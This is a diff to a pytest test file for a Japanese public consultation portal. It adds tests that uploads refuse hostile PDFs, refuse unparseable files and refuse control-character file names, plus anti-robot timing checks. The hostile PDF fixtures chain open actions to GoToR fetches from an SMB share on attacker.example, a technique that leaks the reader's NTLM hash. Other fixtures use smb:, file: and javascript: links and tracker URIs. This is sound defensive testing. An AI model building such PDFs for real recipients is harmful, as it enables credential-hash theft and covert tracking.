@@ -11,14 +11,16 @@ import re
 import struct
 import time
 import zlib
+from datetime import timedelta
 
 import pytest
 import sqlalchemy as sa
 from itsdangerous import URLSafeSerializer
 
 from portal.audit.models import AuditEntry
-from portal.comments.cli import scan_uploads
+from portal.commands import scan_uploads
 from portal.comments.models import Comment
+from portal.core import timefmt
 from portal.core.downloads import excel_csv
 from portal.demo.pdf import make_pdf
 from portal.documents.models import Document
@@ -122,6 +124,26 @@ ACTIVE_PDFS = {
     "xfa form": lambda: tiny_pdf(b"/AcroForm << /Fields [] /XFA 4 0 R >>", {4: b"<< >>"}),
     "rich media": lambda: tiny_pdf(b"/RichMedia 4 0 R", {4: b"<< >>"}),
     "javascript in a compressed object stream": lambda: tiny_pdf(b"/OpenAction 4 0 R", compressed={4: JS}),
+    # "BadPDF": a harmless-looking open action whose /Next fetches a file from a Windows share (the reader sends
+    # its NTLM hash) or calls a tracker
+    "go-to open action chained to a GoToR on a share": lambda: tiny_pdf(b"/OpenAction 4 0 R", {
+        4: b"<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>",
+        5: b"<< /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >>"}),
+    "go-to open action chained to a URI": lambda: tiny_pdf(b"/OpenAction 4 0 R", {
+        4: b"<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>", 5: b"<< /S /URI /URI (https://tracker.example/open) >>"}),
+    "go-to open action chained in an object stream": lambda: tiny_pdf(b"/OpenAction 4 0 R", compressed={
+        4: b"<< /S /GoTo /D [3 0 R /Fit] /Next [5 0 R] >>", 5: b"<< /S /GoToR /F (//attacker.example/x.pdf) >>"}),
+    "GoToR open action": lambda: tiny_pdf(b"/OpenAction 4 0 R", {4: b"<< /S /GoToR /F (x.pdf) /D [0 /Fit] >>"}),
+    "URI open action": lambda: tiny_pdf(b"/OpenAction 4 0 R", {4: b"<< /S /URI /URI (https://tracker.example) >>"}),
+    "thread open action with a file": lambda: tiny_pdf(b"/OpenAction 4 0 R", {4: b"<< /S /Thread /F (x.pdf) /D 0 >>"}),
+    "rendition open action": lambda: tiny_pdf(b"/OpenAction 4 0 R", {4: b"<< /S /Rendition /OP 0 >>"}),
+    "javascript: link": lambda: link_pdf(b"javascript:app.alert(1)"),
+    "JavaScript: link with spaces and tabs": lambda: link_pdf(b" \t JaVaScRiPt:app.alert(1)"),
+    "file: link": lambda: link_pdf(b"file:///C:/Windows/System32/calc.exe"),
+    "smb: link": lambda: link_pdf(b"smb://attacker.example/share"),
+    "link to a network path": lambda: link_pdf(b"\\\\attacker.example\\share"),
+    "relative link (resolved against the file's own folder)": lambda: link_pdf(b"../../Windows/System32/calc.exe"),
+    "link base on a share": lambda: tiny_pdf(b"/URI << /Base (file://attacker.example/) >>"),
 }
 ACCEPTED_PDFS = {
     "a plain page": lambda: tiny_pdf(),
@@ -129,7 +151,30 @@ ACCEPTED_PDFS = {
     "a go-to open action in an object stream": lambda: tiny_pdf(
         b"/OpenAction 4 0 R", compressed={4: b"<< /S /GoTo /D [3 0 R /Fit] >>"}),
     "a Japanese document made by the portal": lambda: make_pdf("会議資料", ["本文"] * 20, pages=2),
+    "links to a web page and an address": lambda: link_pdf(b"https://www.city.example.lg.jp/", b"mailto:a@example.jp"),
+    "a link to another PDF, clicked by the reader": lambda: tiny_pdf(
+        b"", {3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>",
+              4: b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (besshi.pdf) /D [0 /Fit] >> >>"}),
+    "an outline (its items chain with /Next too)": lambda: tiny_pdf(b"/Outlines 4 0 R", {
+        4: b"<< /Type /Outlines /First 5 0 R /Last 6 0 R /Count 2 >>",
+        5: b"<< /Title (a) /Parent 4 0 R /Next 6 0 R /Dest [3 0 R /Fit] >>",
+        6: b"<< /Title (b) /Parent 4 0 R /Prev 5 0 R /Dest [3 0 R /Fit] >>"}),
 }
+#: files pypdf cannot parse, each raising what a narrow except once let through as a 500
+BROKEN_PDFS = {
+    "an xref declaring a million entries (LimitReachedError)": lambda: tiny_pdf().replace(b"xref\n0 4", b"xref\n0 999999"),
+    "an object that is only a reference (AttributeError)": lambda: tiny_pdf(b"/X 4 0 R", {4: b"5 0 R", 5: b"<< >>"}),
+    "a reference loop in the page tree": lambda: tiny_pdf(b"", {2: b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"}),
+    "a truncated file": lambda: tiny_pdf()[:60],
+}
+
+
+def link_pdf(*uris: bytes) -> bytes:
+    """One page with a link annotation for each URI."""
+    links = {4 + n: b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (%s) >> >>" % uri
+             for n, uri in enumerate(uris)}
+    annots = b" ".join(b"%d 0 R" % number for number in links)
+    return tiny_pdf(b"", {3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [%s] >>" % annots, **links})
 
 
 def form_values(client, consultation, lang="/en") -> dict:
@@ -190,6 +235,20 @@ def test_plain_pdfs_are_accepted(app, client, auth, factory, case):
     assert document_count() == 1
 
 
+@pytest.mark.parametrize("case", list(BROKEN_PDFS), ids=list(BROKEN_PDFS))
+def test_pdfs_the_reader_cannot_parse_are_refused_on_the_form_not_a_500(app, client, auth, factory, case):
+    """Anonymous on the comment form, staff on the upload form: the form again with a message, text kept."""
+    content = BROKEN_PDFS[case]()
+    assert content.startswith(b"%PDF-") and len(content) < 2_000
+    body, comment = send_with_attachment(app.test_client(), factory.consultation(), content)
+    assert comment is None and TEXT in body
+    assert "Attach a PDF, PNG or JPEG file." in body or "The PDF could not be read." in body
+    auth.as_role(client, "editor")
+    response = upload(client, factory.meeting().id, "資料.pdf", content)
+    assert response.status_code == 200 and "PDFを読み取れませんでした" in response.get_data(as_text=True)
+    assert document_count() == 0 and stored_files(app) == []
+
+
 # Images: dimensions read from the header, before decoding
 
 
@@ -225,6 +284,19 @@ def test_file_display_names_lose_invisible_characters(app, client, auth, factory
     assert "\u202e" not in download.headers["Content-Disposition"]
     _, comment = send_with_attachment(app.test_client(), factory.consultation(), make_pdf("x", ["x"]), typed)
     assert comment.attachment_filename == shown
+
+
+@pytest.mark.parametrize("typed", ["資料\t.pdf", "資料\x07.pdf", "資料\x1b[31m.pdf"])
+def test_a_file_name_with_control_characters_is_refused_with_its_own_message(app, client, auth, factory, typed):
+    auth.as_role(client, "editor")
+    meeting = factory.meeting()
+    response = post_form(client, f"/en/admin/documents/new?meeting={meeting.id}",
+                         {**DOC, "file": (io.BytesIO(make_pdf("x", ["x"])), typed)}, content_type="multipart/form-data")
+    body = response.get_data(as_text=True)
+    assert response.status_code == 200 and "must not contain control characters" in body
+    assert "must not contain /" not in body and document_count() == 0
+    body, comment = send_with_attachment(app.test_client(), factory.consultation(), make_pdf("x", ["x"]), typed)
+    assert comment is None and "must not contain control characters" in body and TEXT in body
 
 
 def test_names_typed_on_the_comment_form_are_cleaned(client, factory):
@@ -318,7 +390,7 @@ def test_without_a_scanner_a_staff_document_is_not_public_until_scanned(app, cli
     public = app.test_client()
     assert public.get(f"/documents/{document.id}").status_code == 404
     app.config["VIRUS_SCANNER"] = fake_clamd
-    result = app.test_cli_runner().invoke(scan_uploads)
+    result = app.test_cli_runner().invoke(args=["scan-uploads"])  # as cron runs it: `flask scan-uploads`
     assert result.exit_code == 0 and "documents: 1 clean" in result.output
     assert public.get(f"/documents/{document.id}").status_code == 200
 
@@ -380,17 +452,60 @@ def test_one_old_timing_token_cannot_send_a_second_comment(app, client, factory)
     assert comment_count() == 1
 
 
-def test_a_refused_reuse_hands_out_a_fresh_form_a_person_can_send(app, client, factory):
+def hidden_tokens(page: str) -> dict:
+    return dict(re.findall(r'name="(form_token|started)" type="hidden" value="([^"]*)"', page))
+
+
+@pytest.fixture
+def clock(monkeypatch):
+    """Moves the portal's clock forward: `clock(61)`; nothing sleeps."""
+    start, offset = timefmt.now_utc(), [0.0]
+    monkeypatch.setattr(timefmt, "now_utc", lambda: start + timedelta(seconds=offset[0]))
+    return lambda seconds: offset.__setitem__(0, offset[0] + seconds)
+
+
+def test_a_refused_reuse_hands_out_a_fresh_form_a_person_can_send_after_reading(app, client, factory, clock):
     app.config["COMMENT_MIN_SECONDS"] = 60
     consultation = factory.consultation()
     values = form_values(client, consultation)
     values["started"] = old_timing_token(app, values["form_token"])
     send(client, consultation, values=values)
     refused = send(client, consultation, values=values, text="二つ目の意見です。").get_data(as_text=True)
-    fresh = dict(re.findall(r'name="(form_token|started)" type="hidden" value="([^"]*)"', refused))
+    fresh = hidden_tokens(refused)
     assert fresh["form_token"] != values["form_token"]
+    at_once = send(client, consultation, values={**values, **fresh}, text="二つ目の意見です。")  # a robot
+    assert "sent very quickly" in at_once.get_data(as_text=True) and comment_count() == 1
+    clock(61)  # a person reads the message, checks the text and sends again
     assert send(client, consultation, values={**values, **fresh}, text="二つ目の意見です。").status_code == 302
     assert comment_count() == 2
+
+
+def test_a_robot_resending_the_returned_form_at_once_stays_refused(app, client, factory, clock):
+    """The renewed token is never backdated: sending what a refusal returns, again and again, gains nothing."""
+    app.config["COMMENT_MIN_SECONDS"] = 60
+    consultation = factory.consultation()
+    page = client.get(f"/en/consultations/{consultation.id}/comment").get_data(as_text=True)
+    values = dict(re.findall(r'name="(form_token|started|csrf_token)" type="hidden" value="([^"]*)"', page))
+    for _ in range(3):
+        response = send(client, consultation, values=values)
+        assert response.status_code == 200 and "sent very quickly" in response.get_data(as_text=True)
+        values = {**values, **hidden_tokens(response.get_data(as_text=True))}
+        clock(10)
+    assert comment_count() == 0
+    clock(31)  # 60 seconds after the form was first shown: the refusals kept that time, not the last one
+    assert send(client, consultation, values=values).status_code == 302 and comment_count() == 1
+
+
+def test_a_forged_timing_token_is_renewed_from_now(app, client, factory, clock):
+    app.config["COMMENT_MIN_SECONDS"] = 60
+    consultation = factory.consultation()
+    values = form_values(client, consultation)
+    forged = send(client, consultation, values={**values, "started": "forged"})
+    assert "The form could not be checked" in forged.get_data(as_text=True)
+    renewed = {**values, **hidden_tokens(forged.get_data(as_text=True))}
+    assert "sent very quickly" in send(client, consultation, values=renewed).get_data(as_text=True)
+    clock(61)
+    assert send(client, consultation, values=renewed).status_code == 302
 
 
 def test_going_back_from_the_confirm_page_to_edit_is_not_punished(app, client, factory):
